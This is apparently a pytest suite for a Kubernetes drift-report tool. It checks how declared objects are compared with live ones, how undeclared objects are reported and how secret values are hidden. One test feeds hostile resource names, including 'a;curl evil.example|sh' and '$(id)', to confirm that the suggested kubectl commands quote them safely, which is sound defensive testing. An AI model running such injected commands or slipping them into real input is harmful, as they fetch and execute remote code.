"""The cluster: every change has a name, and what is there by design has none."""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import pytest

from infra.validate import schema_faults
from tests.unit.support.imports import circles
from tests.unit.tools.drift.objects import MANAGER, live_object, recorded_object, row
from tools.drift_report.by_design import CHILDREN
from tools.drift_report.findings import Look, Seen, ordered
from tools.drift_report.objects import Way, of_cluster
from tools.drift_report.table import as_json, document, text
from tools.drift_report.whole_cluster import LOOKED_AT
from tools.kube import Kind, Listing, Object

CANARY = "canary-4f1c0ffee"
NAMESPACE = recorded_object("Namespace", "sales-dev", "")
QUOTA = recorded_object("ResourceQuota", "quota", spec={"hard": {"requests.cpu": "64"}})
MAP = recorded_object("ConfigMap", "list", data={"a": "1"})
SECRET = recorded_object("Secret", "key", stringData={"k": "v"})
SERVICE = recorded_object("InferenceService", "support", api="serving.kserve.io/v1beta1", spec={"predictor": {}})
SET = recorded_object(
    "StatefulSet", "counter", api="apps/v1", spec={"volumeClaimTemplates": [{"metadata": {"name": "data"}}]}
)
DEPLOYMENT = recorded_object(
    "Deployment",
    "entry",
    api="apps/v1",
    spec={"replicas": 2, "template": {"spec": {"volumes": [{"configMap": {"name": "kitchen-ca"}}]}}},
)
SCALER = recorded_object(
    "HorizontalPodAutoscaler",
    "entry",
    api="autoscaling/v2",
    spec={"scaleTargetRef": {"kind": "Deployment", "name": "entry"}},
)
WAY = Way(command="make deploy STACK=dev")


def plain(kind: str, name: str, api: str = "v1", **metadata: Any) -> Object:
    """An object as a list of metadata shows it, made by kubectl unless `metadata` says more."""
    managed = [{"manager": "kubectl-create", "operation": "Update", "time": "2026-11-29T02:00:00Z"}]
    said = {"name": name, "namespace": "sales-dev", "uid": f"{kind}/{name}", "managedFields": managed, **metadata}
    return {"apiVersion": api, "kind": kind, "metadata": said}


def owned(kind: str, name: str, owner: Object, api: str = "v1", **metadata: Any) -> Object:
    reference = {"kind": owner["kind"], "name": owner["metadata"]["name"], "uid": owner["metadata"]["uid"]}
    return plain(kind, name, api, ownerReferences=[{**reference, "controller": True}], **metadata)


def kind_of(entry: Object) -> Kind:
    return Kind(entry["apiVersion"], entry["kind"])


class Cluster:
    """Holds `live`; answers lists, and metadata alone where that is asked for."""

    def __init__(self, *live: Object, refused: Sequence[str] = ()) -> None:
        self.live, self.refused = live, refused
        self.asked: set[tuple[str, str]] = set()

    def listing(
        self, kinds: Iterable[Kind], *, selector: Mapping[str, str] | None = None, namespaces: Sequence[str] = ()
    ) -> Listing:
        wanted = set(kinds)
        found = [(Kind(entry["apiVersion"], entry["kind"]), entry) for entry in self.live]
        return Listing(objects=[(kind, entry) for kind, entry in found if kind in wanted])

    def served(self) -> set[Kind]:
        return {Kind(entry["apiVersion"], entry["kind"]) for entry in self.live}

    def get_all(self, wanted: Sequence[tuple[Kind, str, str]]) -> list[Object | None]:
        there = {(kind_of(entry), entry["metadata"].get("namespace", ""), entry["metadata"]["name"]): entry
                 for entry in self.live}  # fmt: skip
        return [there.get(one) for one in wanted]

    def kinds(self) -> tuple[dict[Kind, bool], list[str]]:
        return {kind: kind.kind not in ("Namespace", "PriorityClass", *LOOKED_AT) for kind in self.served()}, []

    def plurals(self, kinds: Mapping[Kind, bool]) -> list[tuple[Kind, str]]:
        return [(kind, f"{kind.kind.lower()}s") for kind, namespaced in kinds.items() if namespaced]

    def metadata(
        self, asked: Sequence[tuple[Kind, str]], selector: Mapping[str, str] | None = None
    ) -> list[list[Object] | str]:
        self.asked |= {(kind.kind, namespace) for kind, namespace in asked}
        return [self._one(*one) for one in asked]

    def _one(self, kind: Kind, namespace: str) -> list[Object] | str:
        if kind.kind in self.refused:
            return f"listing {kind}: 403: forbidden"
        return [
            {"metadata": entry["metadata"]}
            for entry in self.live
            if (entry["apiVersion"], entry["kind"]) == kind and entry["metadata"].get("namespace", "") == namespace
        ]


def seen(resources: list[dict[str, Any]], *live: Object, **more: Any) -> Seen:
    cluster: Any = Cluster(*live, **{key: more.pop(key) for key in ("refused",) if key in more})
    return of_cluster(resources, cluster, manager=MANAGER, environment="dev", way=WAY, **more)


def told(resources: list[dict[str, Any]], *live: Object, **more: Any) -> list[tuple[str, str]]:
    return [(str(finding.what), finding.title) for finding in seen(resources, *live, **more).findings]


def test_what_is_as_declared_is_not_told() -> None:
    assert told([NAMESPACE, QUOTA], live_object(NAMESPACE), live_object(QUOTA)) == []


def test_what_is_gone_is_told() -> None:
    assert told([NAMESPACE, QUOTA], live_object(NAMESPACE)) == [("missing", "ResourceQuota sales-dev/quota")]


def test_a_namespace_that_is_gone_takes_its_objects_along_in_one_line() -> None:
    (finding,) = seen([NAMESPACE, QUOTA, MAP]).findings
    assert (finding.title, finding.more) == ("Namespace sales-dev", "with 2 recorded objects and its volumes")


def test_a_changed_field_has_both_values_and_its_owner() -> None:
    hand = row("kubectl-edit", {"spec": {"hard": {"requests.cpu": "640"}}}, "Update")
    live = live_object(QUOTA, hand, spec={"hard": {"requests.cpu": "640"}})
    (finding,) = seen([NAMESPACE, QUOTA], live_object(NAMESPACE), live).findings
    (change,) = finding.changes
    assert str(change) == ('spec.hard["requests.cpu"]: declared 64, is 640 (kubectl-edit since 2026-11-29T02:00:00Z)')
    assert finding.way == "make deploy STACK=dev TAKE_BACK='ResourceQuota sales-dev/quota'"


def test_a_field_that_another_has_added_is_told_and_what_it_is_set_to_is_not() -> None:
    own = row(MANAGER, {"data": {"a": "1"}})
    hand = row("kubectl-patch", {"data": {"b": "x"}, "metadata": {"annotations": {"note": "x"}}}, "Update")
    live = live_object(MAP, own, hand, data={"a": "1", "b": CANARY})
    (finding,) = seen([NAMESPACE, MAP], live_object(NAMESPACE), live).findings
    assert {change.path for change in finding.changes} == {"data.b", "metadata.annotations.note"}
    assert finding.way == "kubectl edit -n sales-dev configmap list: remove what was added"


@pytest.mark.parametrize(
    "fields",
    [
        {"metadata": {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": "x"}}},
        {"metadata": {"annotations": {"deployment.kubernetes.io/revision": "4"}}},
        {"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "x"}}}}},
        {"status": {"replicas": 3}},
    ],
)
def test_fields_that_are_set_by_design_are_not_told(fields: dict[str, Any]) -> None:
    own = row(MANAGER, {"spec": DEPLOYMENT["inputs"]["spec"]})
    live = live_object(DEPLOYMENT, own, row("another", fields, "Update"))
    assert told([NAMESPACE, DEPLOYMENT], live_object(NAMESPACE), live) == []


def test_copies_are_the_autoscaler_s_where_one_is_declared_and_somebody_s_where_none_is() -> None:
    own = row(MANAGER, {"spec": {"template": {}}})
    scaled = row("kube-controller-manager", {"spec": {"replicas": 5}}, "Update")
    live = live_object(DEPLOYMENT, own, scaled, spec={**DEPLOYMENT["inputs"]["spec"], "replicas": 5})
    there = (live_object(NAMESPACE), live)
    assert told([NAMESPACE, DEPLOYMENT, SCALER], *there, live_object(SCALER)) == []
    assert told([NAMESPACE, DEPLOYMENT], *there) == [("changed", "Deployment sales-dev/entry")]
    off = live_object(DEPLOYMENT, own, scaled, spec={**DEPLOYMENT["inputs"]["spec"], "replicas": 0})
    found = told([NAMESPACE, DEPLOYMENT, SCALER], live_object(NAMESPACE), off, live_object(SCALER))
    assert found == [("changed", "Deployment sales-dev/entry")], "at 0 the autoscaler is switched off"


def test_what_nobody_declares_is_told_with_who_made_it_and_how_it_goes() -> None:
    (finding,) = seen([NAMESPACE], live_object(NAMESPACE), plain("Pod", "shell")).findings
    assert (finding.title, finding.by) == ("Pod sales-dev/shell", ("kubectl-create since 2026-11-29T02:00:00Z",))
    assert finding.way == "kubectl delete -n sales-dev pod shell"


def test_what_controllers_make_of_what_is_declared_is_known() -> None:
    service = live_object(SERVICE)
    service = {**service, "metadata": {**service["metadata"], "uid": "service"}}
    deployment = owned("Deployment", "support-predictor", service, "apps/v1")
    replicas = owned("ReplicaSet", "support-predictor-1", deployment, "apps/v1")
    pod = owned("Pod", "support-predictor-1-a", replicas)
    everywhere = [
        plain("ServiceAccount", "default"),
        plain("ConfigMap", "kube-root-ca.crt"),
        plain("Lease", "x", "coordination.k8s.io/v1"),
    ]
    named, claim = plain("ConfigMap", "kitchen-ca"), plain("PersistentVolumeClaim", "data-counter-0")
    resources = [NAMESPACE, SERVICE, SET, DEPLOYMENT]
    live = [live_object(NAMESPACE), service, live_object(SET), live_object(DEPLOYMENT)]
    found = seen(resources, *live, deployment, replicas, pod, *everywhere, named, claim)
    assert found.findings == []
    assert found.known == {"child": 3, "of-namespace": 2, "lease": 1, "named": 1, "claim-of-set": 1}


def test_what_controllers_make_of_what_nobody_declares_is_told_with_it() -> None:
    stranger = plain("Deployment", "miner", "apps/v1")
    replicas = owned("ReplicaSet", "miner-1", stranger, "apps/v1")
    (finding,) = seen([NAMESPACE], live_object(NAMESPACE), stranger, replicas, owned("Pod", "a", replicas)).findings
    assert finding.title == "Deployment sales-dev/miner"
    assert finding.more == "with 2 objects that controllers have made of it"


def test_no_kind_is_made_of_what_is_made_of_it() -> None:
    leaves = {kind: frozenset[str]() for made in CHILDREN.values() for kind in made}
    assert list(circles({**leaves, **CHILDREN})) == []


def test_a_child_of_a_kind_that_its_owner_does_not_make_is_told() -> None:
    service = {**live_object(SERVICE), "metadata": {**live_object(SERVICE)["metadata"], "uid": "service"}}
    odd = owned("Secret", "odd", service)
    found = told([NAMESPACE, SERVICE], live_object(NAMESPACE), service, odd)
    assert found == [("undeclared", "Secret sales-dev/odd")]


def test_an_owner_that_is_not_there_makes_nothing_known() -> None:
    gone = plain("InferenceService", "gone", "serving.kserve.io/v1beta1")
    child = owned("Deployment", "left", gone, "apps/v1")
    assert told([NAMESPACE], live_object(NAMESPACE), child) == [("undeclared", "Deployment sales-dev/left")]


@pytest.mark.parametrize("kind", ["InferenceService", "ServiceAccount"])
def test_an_owner_that_does_not_control_makes_nothing_known(kind: str) -> None:
    """Anybody may name an owner, so that something goes along with it; a controller says that it controls."""
    service = {**live_object(SERVICE), "metadata": {**live_object(SERVICE)["metadata"], "uid": "service"}}
    reference = {"kind": kind, "name": "support", "uid": "service"}
    miner = plain("Deployment", "miner", "apps/v1", ownerReferences=[reference])
    found = told([NAMESPACE, SERVICE], live_object(NAMESPACE), service, miner)
    assert found == [("undeclared", "Deployment sales-dev/miner")]


def test_a_value_that_is_set_under_our_own_name_is_told() -> None:
    own = row(MANAGER, {"metadata": {"annotations": {"pulumi.com/patchFieldManager": ""}}})
    forged = row(MANAGER, {"spec": {"hard": {"requests.cpu": "640"}}}, "Update")
    live = live_object(QUOTA, own, forged, spec={"hard": {"requests.cpu": "640"}})
    (finding,) = seen([NAMESPACE, QUOTA], live_object(NAMESPACE), live).findings
    path, who = 'spec.hard["requests.cpu"]', "as kitchen-dev, not as it was applied: by hand, or by a webhook"
    assert str(finding.changes[0]) == f"{path}: declared 64, is 640 ({who})"
    assert finding.way.endswith("kubectl edit -n sales-dev resourcequota quota")


def test_a_mark_that_came_with_a_status_is_told() -> None:
    """`kubectl annotate --subresource=status` changes no status."""
    hand = {**row("kubectl-annotate", {"metadata": {"annotations": {"x": "y"}}, "status": {"a": 1}}, "Update")}
    own = row(MANAGER, {"spec": DEPLOYMENT["inputs"]["spec"]})
    live = live_object(DEPLOYMENT, own, {**hand, "subresource": "status"})
    (finding,) = seen([NAMESPACE, DEPLOYMENT], live_object(NAMESPACE), live).findings
    assert [change.path for change in finding.changes] == ["metadata.annotations.x"]


@pytest.mark.parametrize("rows", [[], [row("kubectl-edit", {"metadata": {"finalizers": "x"}}, "Update")]])
def test_an_object_without_our_name_on_it_is_told(rows: list[dict[str, Any]]) -> None:
    """`managedFields` that somebody has emptied hide what was added."""
    live = live_object(MAP, data={"a": "1", "b": CANARY})
    live["metadata"]["managedFields"] = rows
    (finding,) = seen([NAMESPACE, MAP], live_object(NAMESPACE), live).findings
    assert (finding.title, finding.what) == ("ConfigMap sales-dev/list", "changed")


@pytest.mark.parametrize(
    ("name", "typed"),
    [("a;curl evil.example|sh", "'a;curl evil.example|sh'"), ("--all", "-- --all"), ("$(id)", "'$(id)'")],
)
def test_a_name_that_a_shell_or_kubectl_would_obey_is_only_a_name(name: str, typed: str) -> None:
    odd = plain("Role", name, "rbac.authorization.k8s.io/v1")
    (finding,) = seen([NAMESPACE], live_object(NAMESPACE), odd).findings
    assert finding.way == f"kubectl delete -n sales-dev role.rbac.authorization.k8s.io {typed}"


def test_a_kind_that_may_not_be_listed_is_told_and_is_no_drift() -> None:
    found = seen([NAMESPACE], live_object(NAMESPACE), plain("Pod", "shell"), refused=["Pod"])
    assert found.findings == []
    assert found.unread == ["Pod of v1: listing Pod: 403: forbidden"]


def test_a_kind_that_is_skipped_is_not_asked_for_and_that_is_said() -> None:
    found = seen([NAMESPACE, SECRET], live_object(NAMESPACE), plain("Secret", "other"), skipped=frozenset({"Secret"}))
    assert (found.findings, found.unread) == ([], [])
    assert found.unasked == ["objects of kind Secret, 1 of them declared: --skip Secret"]


@pytest.mark.parametrize(
    ("resource", "changed"),
    [
        (MAP, {"data": {"a": CANARY}}),
        (SECRET, {"stringData": {"k": CANARY}}),
        (DEPLOYMENT, {"spec": {"template": {"spec": {"volumes": [{"env": [{"name": "K", "value": CANARY}]}]}}}}),
        (recorded_object("Pod", "p", spec={"args": ["a"]}), {"spec": {"args": [CANARY]}}),
        (recorded_object("Pod", "p", spec={"note": "a"}), {"spec": {"note": CANARY}}),
        (recorded_object("Role", "p", rules=[{"env": "a"}]), {"rules": [{"env": CANARY}]}),
    ],
)
def test_no_value_is_shown_where_anybody_writes_anything(resource: dict[str, Any], changed: dict[str, Any]) -> None:
    live = live_object(resource, row("kubectl-edit", changed, "Update"), **changed)
    found = seen([NAMESPACE, resource], live_object(NAMESPACE), live)
    assert [finding.what for finding in found.findings] == ["changed"]
    look = Look(stack="dev", environment="dev", against="a state", findings=ordered(found.findings))
    assert CANARY not in text(look) + as_json(look)


def test_the_document_fits_its_schema_and_table_and_document_name_the_same() -> None:
    hand = row("kubectl-edit", {"spec": {"hard": {"requests.cpu": "640"}}}, "Update")
    live = live_object(QUOTA, hand, spec={"hard": {"requests.cpu": "640"}})
    found = seen(
        [NAMESPACE, QUOTA, MAP],
        live_object(NAMESPACE),
        live,
        plain("Pod", "x\x1b[2J"),
        plain("Lease", "x", "coordination.k8s.io/v1"),
    )
    look = Look(
        stack="dev",
        environment="dev",
        against="a state",
        findings=ordered(found.findings),
        known=found.known,
        unread=["a"],
        unasked=["b"],
        seconds=1.23,
    )
    made = document(look)
    assert schema_faults("drift-report", made) == []
    assert made["counts"] == {"missing": 1, "leaving": 0, "changed": 1, "unrecorded": 0, "undeclared": 1}
    said = text(look)
    assert all(str(finding["name"].isprintable() or "\\x1b" in said) for finding in made["findings"])
    assert "\x1b" not in said
    assert said.splitlines()[-1].startswith("dev: drift: 1 missing, 1 changed, 1 undeclared, 1 not looked at, compared")


@pytest.mark.parametrize(
    ("findings", "unread", "status"),
    [(0, 0, 0), (1, 0, 1), (0, 1, 4), (1, 1, 1)],
    ids=["none", "drift", "part", "both"],
)
def test_exit_codes(findings: int, unread: int, status: int) -> None:
    found = seen([NAMESPACE]).findings * findings
    look = Look(stack="dev", environment="dev", against="a", findings=found, unread=["x"] * unread)
    assert look.status == status
